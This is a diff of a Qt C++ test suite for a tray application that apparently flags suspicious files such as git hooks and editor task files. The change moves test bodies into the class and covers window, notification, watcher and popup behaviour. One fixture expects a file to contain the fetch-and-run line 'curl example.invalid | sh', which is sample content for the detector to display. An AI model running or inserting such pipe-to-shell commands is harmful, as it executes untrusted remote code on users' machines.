@@ -32,22 +32,241 @@ class AppDelegateTest : public QObject
 {
     Q_OBJECT
 private slots:
-    void init();
-    void cleanup();
-    void firstLaunchWithEmptyStoreOpensDirectoriesAndLaunchesWatcher();
-    void launchWithDirectoriesOpensNoWindowAndOneWatcher();
-    void windowsAreOneEachShownAgainAndOutliveClearing();
+    void init()
+    {
+        QApplication::setQuitOnLastWindowClosed(false);
+        m_store = std::make_unique<StoreFixture>();
+        m_script = std::make_unique<tw::test::WatcherScript>(QStringList{});
+        m_supervisor = std::make_unique<WatcherSupervisor>();
+        m_script->runBy(*m_supervisor);
+        m_notifier = std::make_unique<StubNotifier>();
+    }
+
+    void cleanup()
+    {
+        m_delegate.reset();
+        m_supervisor.reset();
+        WatcherStatus::shared().setRunning(false);
+        m_notifier.reset();
+        m_script.reset();
+        m_store.reset();
+    }
+
+    void firstLaunchWithEmptyStoreOpensDirectoriesAndLaunchesWatcher()
+    {
+        AppDelegate& delegate = makeDelegate();
+        QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Accessory);
+        // On an empty store clearing writes nothing.
+        QSignalSpy changed(m_store->container.get(), &ModelContainer::storeChanged);
+        delegate.clearFindings();
+        QCOMPARE(changed.size(), 0);
+        delegate.applicationDidFinishLaunching();
+
+        QVERIFY(qobject_cast<DirectoryView*>(delegate.directoryWindow()));
+        QVERIFY(delegate.directoryWindow()->isVisible());
+        QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Regular);
+        QTRY_VERIFY(WatcherStatus::shared().isRunning());
+        // The window came first, while no watcher ran, so its first push went nowhere; the launch then
+        // sent the stored (empty) configuration once: a second empty push would stand before the marker.
+        QTRY_COMPARE(m_script->recordedStdin(), QByteArray("\n\n"));
+        pushMarker();
+        QTRY_COMPARE(m_script->recordedStdin(), QByteArray("\n\n/marker\n\n"));
+    }
+
+    void launchWithDirectoriesOpensNoWindowAndOneWatcher()
+    {
+        m_store->addDirectories({u"/srv/project"_s});
+        AppDelegate& delegate = makeDelegate();
+        delegate.applicationDidFinishLaunching();
+        QVERIFY(!delegate.directoryWindow());
+        QTRY_COMPARE(m_script->recordedStdin(), QByteArray("/srv/project\n\n"));
+        const QProcess* first = m_supervisor->process();
+        // Finishing launching again finds the watcher running and starts no second one.
+        delegate.applicationDidFinishLaunching();
+        delegate.applicationWillBecomeActive();
+        pushMarker();
+        QTRY_COMPARE(m_script->recordedStdin(), QByteArray("/srv/project\n\n/marker\n\n"));
+        QCOMPARE(m_supervisor->process(), first);
+    }
+
+    // One directories window, one viewer per finding; closing hides them, opening shows the same again,
+    // clearing the findings leaves them.
+    void windowsAreOneEachShownAgainAndOutliveClearing()
+    {
+        const Finding finding =
+            m_store->addFinding(u"/srv/repo/.git/hooks/pre-commit"_s, u"hook"_s, u"critical"_s);
+        AppDelegate& delegate = makeDelegate();
+        delegate.openDirectoryWindow();
+        QWidget* const directories = delegate.directoryWindow();
+        QVERIFY(directories && directories->close());
+        delegate.openDirectoryWindow();
+        QCOMPARE(delegate.directoryWindow(), directories);
+        QVERIFY(directories->isVisible());
+
+        delegate.openFileViewer(finding);
+        auto* viewer = qobject_cast<FileViewerView*>(delegate.fileViewerWindow(finding.id()));
+        QVERIFY(viewer && viewer->isVisible());
+        QCOMPARE(viewer->path(), finding.path());
+        QCOMPARE(viewer->ruleName(), finding.ruleName());
+        QVERIFY(viewer->close());
+        delegate.openFileViewer(finding);
+        QCOMPARE(delegate.fileViewerWindowCount(), 1);
+        QCOMPARE(delegate.fileViewerWindow(finding.id()), viewer);
+        QVERIFY(viewer->isVisible());
+
+        // Another finding of the same file is a window of its own, with the same title.
+        const Finding again = m_store->addFinding(finding.path(), finding.ruleName(), u"critical"_s);
+        delegate.openFileViewer(again);
+        QCOMPARE(delegate.fileViewerWindowCount(), 2);
+        QWidget* other = delegate.fileViewerWindow(again.id());
+        QVERIFY(other && other != viewer);
+        QCOMPARE(other->windowTitle(), u"pre-commit"_s);
+        QCOMPARE(viewer->windowTitle(), u"pre-commit"_s);
+
+        // Clearing empties the store, warnings too, and leaves the windows open.
+        m_store->addFinding(u"/p/b"_s, u"r"_s, u"warning"_s);
+        delegate.clearFindings();
+        QCOMPARE(m_store->storedFindingCount(), 0);
+        QCOMPARE(delegate.fileViewerWindowCount(), 2);
+        QVERIFY(viewer->isVisible());
+    }
+
     void aNameThatIsNotUtf8OpensThatFileNotItsLookalike();
-    void notificationClickOpensTheFindingOrThePanel();
-    void closingTheLastWindowKeepsRunningAsTrayApp();
-    void activationRelaunchesAnEndedWatcher();
-    void popupPosition_data();
-    void popupPosition();
-    void withoutStatusAreaThePanelIsAWindow();
-    void popupGetsOutOfTheWayOfTheWindowsItOpens();
+
+    // Which finding a click names is the store's lookup (its own test); here, what the click opens.
+    void notificationClickOpensTheFindingOrThePanel()
+    {
+        const QString path = u"/srv/repo/.git/hooks/pre-commit"_s;
+        const Finding finding = m_store->addFinding(path, u"hook"_s, u"critical"_s);
+        AppDelegate& delegate = makeDelegate();
+        delegate.applicationDidFinishLaunching();
+        QSignalSpy panel(&delegate, &AppDelegate::showPanelRequested);
+        m_notifier->click(path, u"hook"_s);
+        m_notifier->click(path, u"hook"_s);
+        QCOMPARE(delegate.fileViewerWindowCount(), 1);
+        QCOMPARE(delegate.fileViewerWindow(finding.id())->windowTitle(), u"pre-commit"_s);
+        // A cleared finding opens nothing; a click on the summary (no path, no rule) asks for the panel.
+        delegate.clearFindings();
+        m_notifier->click(u"/srv/repo/other"_s, u"hook"_s);
+        QCOMPARE(panel.size(), 0);
+        m_notifier->click(QString(), QString());
+        QCOMPARE(panel.size(), 1);
+        QCOMPARE(delegate.fileViewerWindowCount(), 1);
+    }
+
+    void closingTheLastWindowKeepsRunningAsTrayApp()
+    {
+        const Finding finding = m_store->addFinding(u"/p/a"_s, u"r"_s, u"high"_s);
+        AppDelegate& delegate = makeDelegate();
+        delegate.openDirectoryWindow();
+        delegate.openFileViewer(finding);
+        QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Regular);
+        QSignalSpy quit(qApp, &QCoreApplication::aboutToQuit);
+
+        QVERIFY(delegate.fileViewerWindow(finding.id())->close());
+        // The policy is decided on a posted call after the close; let it run.
+        QCoreApplication::sendPostedEvents();
+        QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Regular);
+        QVERIFY(delegate.directoryWindow()->close());
+        QTRY_COMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Accessory);
+        QCOMPARE(quit.size(), 0);
+
+        // Showing an existing viewer again leaves the policy alone; the directories window sets it.
+        delegate.openFileViewer(finding);
+        QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Accessory);
+        delegate.openDirectoryWindow();
+        QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Regular);
+    }
+
+    void activationRelaunchesAnEndedWatcher()
+    {
+        AppDelegate& delegate = makeDelegate();
+        delegate.applicationWillBecomeActive();
+        QTRY_VERIFY(m_supervisor->process() && WatcherStatus::shared().isRunning());
+        const qint64 firstPid = m_supervisor->process()->processId();
+        m_supervisor->process()->closeWriteChannel(); // the stand-in ends at the end of its input
+        QTRY_VERIFY(!WatcherStatus::shared().isRunning());
+        delegate.applicationWillBecomeActive();
+        QTRY_VERIFY(WatcherStatus::shared().isRunning());
+        // A new watcher: the old process object may be gone by now, so compare processes, not objects.
+        QVERIFY(m_supervisor->process()->processId() != firstPid);
+    }
+
+    void popupPosition_data()
+    {
+        QTest::addColumn<QRect>("icon");
+        QTest::addColumn<QPoint>("expected");
+        QTest::newRow("top right, clamped to the right edge") << QRect(1256, 0, 24, 24) << QPoint(860, 24);
+        QTest::newRow("top middle, centred under the icon") << QRect(628, 0, 24, 24) << QPoint(429, 24);
+        QTest::newRow("bottom right, above the icon") << QRect(1256, 776, 24, 24) << QPoint(860, 416);
+        QTest::newRow("bottom left, clamped to the left edge") << QRect(0, 776, 24, 24) << QPoint(0, 416);
+        QTest::newRow("icon off screen, kept on it") << QRect(2000, -50, 24, 24) << QPoint(860, 0);
+    }
+
+    void popupPosition()
+    {
+        QFETCH(QRect, icon);
+        QFETCH(QPoint, expected);
+        QCOMPARE(TrayController::popupPosition(icon, TrayController::PanelSize, QRect(0, 0, 1280, 800)),
+                 expected);
+    }
+
+    void withoutStatusAreaThePanelIsAWindow()
+    {
+        QVERIFY(!QSystemTrayIcon::isSystemTrayAvailable());
+        m_store->addFinding(u"/p/.git/hooks/pre-push"_s, u"hook"_s, u"critical"_s);
+        TrayController tray(m_store->container.get());
+        QWidget* const panel = tray.panel();
+        QVERIFY(!panel->isVisible());
+        tray.start();
+        // The application must never be invisible: without a tray, the panel opens as a window.
+        QTRY_VERIFY(panel->isVisible());
+        QVERIFY(!tray.isPanelPopup());
+        QCOMPARE(panel->size(), TrayController::PanelSize);
+        QVERIFY(!tray.trayIcon()->icon().isNull());
+        QTRY_COMPARE(tray.findingsView()->rows().size(), 1);
+
+        // Closing it only hides it; a click on the icon shows the same one, a middle click does not.
+        QVERIFY(panel->close());
+        emit tray.trayIcon()->activated(QSystemTrayIcon::MiddleClick);
+        QVERIFY(!panel->isVisible());
+        emit tray.trayIcon()->activated(QSystemTrayIcon::Trigger);
+        QCOMPARE(tray.panel(), panel);
+        QVERIFY(panel->isVisible());
+    }
+
+    void popupGetsOutOfTheWayOfTheWindowsItOpens()
+    {
+        const Finding finding = m_store->addFinding(u"/p/.vscode/tasks.json"_s, u"task"_s, u"high"_s);
+        AppDelegate& delegate = makeDelegate();
+        TrayController tray(m_store->container.get());
+        delegate.servePanel(tray.findingsView());
+
+        tray.showAsPopup();
+        QVERIFY(tray.isPanelPopup() && tray.panel()->isVisible());
+        QTRY_COMPARE(tray.findingsView()->rows().size(), 1);
+        QTest::mouseClick(tray.findingsView()->rows().first(), Qt::LeftButton);
+        QVERIFY(delegate.fileViewerWindow(finding.id()));
+        QVERIFY(!tray.panel()->isVisible());
+
+        tray.showAsPopup();
+        QTest::mouseClick(tray.findingsView()->folderButton(), Qt::LeftButton);
+        QVERIFY(delegate.directoryWindow());
+        QVERIFY(!tray.panel()->isVisible());
+
+        // As an ordinary window (no status area) the panel stays where it is.
+        tray.showPanel();
+        QVERIFY(!tray.isPanelPopup());
+        QTest::mouseClick(tray.findingsView()->folderButton(), Qt::LeftButton);
+        QVERIFY(tray.panel()->isVisible());
+    }
 
 private:
-    AppDelegate& makeDelegate();
+    AppDelegate& makeDelegate()
+    {
+        m_delegate = std::make_unique<AppDelegate>(m_supervisor.get(), m_notifier.get());
+        return *m_delegate;
+    }
     // Pushes a configuration of its own: anything pushed before it shows up ahead of it in the
     // watcher's recorded input, with no waiting for something not to happen.
     void pushMarker() { WatcherStatus::shared().sendDirectories({u"/marker"_s}); }
@@ -59,113 +278,9 @@ private:
     std::unique_ptr<AppDelegate> m_delegate;
 };
 
-void AppDelegateTest::init()
-{
-    QApplication::setQuitOnLastWindowClosed(false);
-    m_store = std::make_unique<StoreFixture>();
-    m_script = std::make_unique<tw::test::WatcherScript>(QStringList{});
-    m_supervisor = std::make_unique<WatcherSupervisor>();
-    m_script->runBy(*m_supervisor);
-    m_notifier = std::make_unique<StubNotifier>();
-}
-
-void AppDelegateTest::cleanup()
-{
-    m_delegate.reset();
-    m_supervisor.reset();
-    WatcherStatus::shared().setRunning(false);
-    m_notifier.reset();
-    m_script.reset();
-    m_store.reset();
-}
-
-AppDelegate& AppDelegateTest::makeDelegate()
-{
-    m_delegate = std::make_unique<AppDelegate>(m_supervisor.get(), m_notifier.get());
-    return *m_delegate;
-}
-
-void AppDelegateTest::firstLaunchWithEmptyStoreOpensDirectoriesAndLaunchesWatcher()
-{
-    AppDelegate& delegate = makeDelegate();
-    QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Accessory);
-    // On an empty store clearing writes nothing.
-    QSignalSpy changed(m_store->container.get(), &ModelContainer::storeChanged);
-    delegate.clearFindings();
-    QCOMPARE(changed.size(), 0);
-    delegate.applicationDidFinishLaunching();
-
-    QVERIFY(qobject_cast<DirectoryView*>(delegate.directoryWindow()));
-    QVERIFY(delegate.directoryWindow()->isVisible());
-    QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Regular);
-    QTRY_VERIFY(WatcherStatus::shared().isRunning());
-    // The window came first, while no watcher ran, so its first push went nowhere; the launch then
-    // sent the stored (empty) configuration once: a second empty push would stand before the marker.
-    QTRY_COMPARE(m_script->recordedStdin(), QByteArray("\n\n"));
-    pushMarker();
-    QTRY_COMPARE(m_script->recordedStdin(), QByteArray("\n\n/marker\n\n"));
-}
-
-void AppDelegateTest::launchWithDirectoriesOpensNoWindowAndOneWatcher()
-{
-    m_store->addDirectories({u"/srv/project"_s});
-    AppDelegate& delegate = makeDelegate();
-    delegate.applicationDidFinishLaunching();
-    QVERIFY(!delegate.directoryWindow());
-    QTRY_COMPARE(m_script->recordedStdin(), QByteArray("/srv/project\n\n"));
-    const QProcess* first = m_supervisor->process();
-    // Finishing launching again finds the watcher running and starts no second one.
-    delegate.applicationDidFinishLaunching();
-    delegate.applicationWillBecomeActive();
-    pushMarker();
-    QTRY_COMPARE(m_script->recordedStdin(), QByteArray("/srv/project\n\n/marker\n\n"));
-    QCOMPARE(m_supervisor->process(), first);
-}
-
-// One directories window, one viewer per finding; closing hides them, opening shows the same again,
-// clearing the findings leaves them.
-void AppDelegateTest::windowsAreOneEachShownAgainAndOutliveClearing()
-{
-    const Finding finding =
-        m_store->addFinding(u"/srv/repo/.git/hooks/pre-commit"_s, u"hook"_s, u"critical"_s);
-    AppDelegate& delegate = makeDelegate();
-    delegate.openDirectoryWindow();
-    QWidget* const directories = delegate.directoryWindow();
-    QVERIFY(directories && directories->close());
-    delegate.openDirectoryWindow();
-    QCOMPARE(delegate.directoryWindow(), directories);
-    QVERIFY(directories->isVisible());
-
-    delegate.openFileViewer(finding);
-    auto* viewer = qobject_cast<FileViewerView*>(delegate.fileViewerWindow(finding.id()));
-    QVERIFY(viewer && viewer->isVisible());
-    QCOMPARE(viewer->path(), finding.path());
-    QCOMPARE(viewer->ruleName(), finding.ruleName());
-    QVERIFY(viewer->close());
-    delegate.openFileViewer(finding);
-    QCOMPARE(delegate.fileViewerWindowCount(), 1);
-    QCOMPARE(delegate.fileViewerWindow(finding.id()), viewer);
-    QVERIFY(viewer->isVisible());
-
-    // Another finding of the same file is a window of its own, with the same title.
-    const Finding again = m_store->addFinding(finding.path(), finding.ruleName(), u"critical"_s);
-    delegate.openFileViewer(again);
-    QCOMPARE(delegate.fileViewerWindowCount(), 2);
-    QWidget* other = delegate.fileViewerWindow(again.id());
-    QVERIFY(other && other != viewer);
-    QCOMPARE(other->windowTitle(), u"pre-commit"_s);
-    QCOMPARE(viewer->windowTitle(), u"pre-commit"_s);
-
-    // Clearing empties the store, warnings too, and leaves the windows open.
-    m_store->addFinding(u"/p/b"_s, u"r"_s, u"warning"_s);
-    delegate.clearFindings();
-    QCOMPARE(m_store->storedFindingCount(), 0);
-    QCOMPARE(delegate.fileViewerWindowCount(), 2);
-    QVERIFY(viewer->isVisible());
-}
-
 // The watcher names "caf\xE9" (Latin-1) as "caf\uFFFD" plus its exact bytes; a benign file really
 // named "caf\uFFFD" sits beside it. The finding is stored and opened under the exact name.
+// Defined outside the class: moc cannot read raw string literals inside a class body.
 void AppDelegateTest::aNameThatIsNotUtf8OpensThatFileNotItsLookalike()
 {
     QTemporaryDir dir;
@@ -193,134 +308,6 @@ void AppDelegateTest::aNameThatIsNotUtf8OpensThatFileNotItsLookalike()
     QVERIFY(viewer);
     QVERIFY(QTest::qWaitFor([&] { return !viewer->isLoading(); }, 20000));
     QCOMPARE(viewer->content(), u"curl example.invalid | sh\n"_s);
-}
-
-// Which finding a click names is the store's lookup (its own test); here, what the click opens.
-void AppDelegateTest::notificationClickOpensTheFindingOrThePanel()
-{
-    const QString path = u"/srv/repo/.git/hooks/pre-commit"_s;
-    const Finding finding = m_store->addFinding(path, u"hook"_s, u"critical"_s);
-    AppDelegate& delegate = makeDelegate();
-    delegate.applicationDidFinishLaunching();
-    QSignalSpy panel(&delegate, &AppDelegate::showPanelRequested);
-    m_notifier->click(path, u"hook"_s);
-    m_notifier->click(path, u"hook"_s);
-    QCOMPARE(delegate.fileViewerWindowCount(), 1);
-    QCOMPARE(delegate.fileViewerWindow(finding.id())->windowTitle(), u"pre-commit"_s);
-    // A cleared finding opens nothing; a click on the summary (no path, no rule) asks for the panel.
-    delegate.clearFindings();
-    m_notifier->click(u"/srv/repo/other"_s, u"hook"_s);
-    QCOMPARE(panel.size(), 0);
-    m_notifier->click(QString(), QString());
-    QCOMPARE(panel.size(), 1);
-    QCOMPARE(delegate.fileViewerWindowCount(), 1);
-}
-
-void AppDelegateTest::closingTheLastWindowKeepsRunningAsTrayApp()
-{
-    const Finding finding = m_store->addFinding(u"/p/a"_s, u"r"_s, u"high"_s);
-    AppDelegate& delegate = makeDelegate();
-    delegate.openDirectoryWindow();
-    delegate.openFileViewer(finding);
-    QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Regular);
-    QSignalSpy quit(qApp, &QCoreApplication::aboutToQuit);
-
-    QVERIFY(delegate.fileViewerWindow(finding.id())->close());
-    // The policy is decided on a posted call after the close; let it run.
-    QCoreApplication::sendPostedEvents();
-    QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Regular);
-    QVERIFY(delegate.directoryWindow()->close());
-    QTRY_COMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Accessory);
-    QCOMPARE(quit.size(), 0);
-
-    // Showing an existing viewer again leaves the policy alone; the directories window sets it.
-    delegate.openFileViewer(finding);
-    QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Accessory);
-    delegate.openDirectoryWindow();
-    QCOMPARE(delegate.activation().activationPolicy(), ActivationPolicy::Regular);
-}
-
-void AppDelegateTest::activationRelaunchesAnEndedWatcher()
-{
-    AppDelegate& delegate = makeDelegate();
-    delegate.applicationWillBecomeActive();
-    QTRY_VERIFY(m_supervisor->process() && WatcherStatus::shared().isRunning());
-    const qint64 firstPid = m_supervisor->process()->processId();
-    m_supervisor->process()->closeWriteChannel(); // the stand-in ends at the end of its input
-    QTRY_VERIFY(!WatcherStatus::shared().isRunning());
-    delegate.applicationWillBecomeActive();
-    QTRY_VERIFY(WatcherStatus::shared().isRunning());
-    // A new watcher: the old process object may be gone by now, so compare processes, not objects.
-    QVERIFY(m_supervisor->process()->processId() != firstPid);
-}
-
-void AppDelegateTest::popupPosition_data()
-{
-    QTest::addColumn<QRect>("icon");
-    QTest::addColumn<QPoint>("expected");
-    QTest::newRow("top right, clamped to the right edge") << QRect(1256, 0, 24, 24) << QPoint(860, 24);
-    QTest::newRow("top middle, centred under the icon") << QRect(628, 0, 24, 24) << QPoint(429, 24);
-    QTest::newRow("bottom right, above the icon") << QRect(1256, 776, 24, 24) << QPoint(860, 416);
-    QTest::newRow("bottom left, clamped to the left edge") << QRect(0, 776, 24, 24) << QPoint(0, 416);
-    QTest::newRow("icon off screen, kept on it") << QRect(2000, -50, 24, 24) << QPoint(860, 0);
-}
-
-void AppDelegateTest::popupPosition()
-{
-    QFETCH(QRect, icon);
-    QFETCH(QPoint, expected);
-    QCOMPARE(TrayController::popupPosition(icon, TrayController::PanelSize, QRect(0, 0, 1280, 800)),
-             expected);
-}
-
-void AppDelegateTest::withoutStatusAreaThePanelIsAWindow()
-{
-    QVERIFY(!QSystemTrayIcon::isSystemTrayAvailable());
-    m_store->addFinding(u"/p/.git/hooks/pre-push"_s, u"hook"_s, u"critical"_s);
-    TrayController tray(m_store->container.get());
-    QWidget* const panel = tray.panel();
-    QVERIFY(!panel->isVisible());
-    tray.start();
-    // The application must never be invisible: without a tray, the panel opens as a window.
-    QTRY_VERIFY(panel->isVisible());
-    QVERIFY(!tray.isPanelPopup());
-    QCOMPARE(panel->size(), TrayController::PanelSize);
-    QVERIFY(!tray.trayIcon()->icon().isNull());
-    QTRY_COMPARE(tray.findingsView()->rows().size(), 1);
-
-    // Closing it only hides it; a click on the icon shows the same one, a middle click does not.
-    QVERIFY(panel->close());
-    emit tray.trayIcon()->activated(QSystemTrayIcon::MiddleClick);
-    QVERIFY(!panel->isVisible());
-    emit tray.trayIcon()->activated(QSystemTrayIcon::Trigger);
-    QCOMPARE(tray.panel(), panel);
-    QVERIFY(panel->isVisible());
-}
-
-void AppDelegateTest::popupGetsOutOfTheWayOfTheWindowsItOpens()
-{
-    const Finding finding = m_store->addFinding(u"/p/.vscode/tasks.json"_s, u"task"_s, u"high"_s);
-    AppDelegate& delegate = makeDelegate();
-    TrayController tray(m_store->container.get());
-    delegate.servePanel(tray.findingsView());
-
-    tray.showAsPopup();
-    QVERIFY(tray.isPanelPopup() && tray.panel()->isVisible());
-    QTRY_COMPARE(tray.findingsView()->rows().size(), 1);
-    QTest::mouseClick(tray.findingsView()->rows().first(), Qt::LeftButton);
-    QVERIFY(delegate.fileViewerWindow(finding.id()));
-    QVERIFY(!tray.panel()->isVisible());
-
-    tray.showAsPopup();
-    QTest::mouseClick(tray.findingsView()->folderButton(), Qt::LeftButton);
-    QVERIFY(delegate.directoryWindow());
-    QVERIFY(!tray.panel()->isVisible());
-
-    // As an ordinary window (no status area) the panel stays where it is.
-    tray.showPanel();
-    QVERIFY(!tray.isPanelPopup());
-    QTest::mouseClick(tray.findingsView()->folderButton(), Qt::LeftButton);
-    QVERIFY(tray.panel()->isVisible());
 }
 
 QTEST_MAIN(AppDelegateTest)
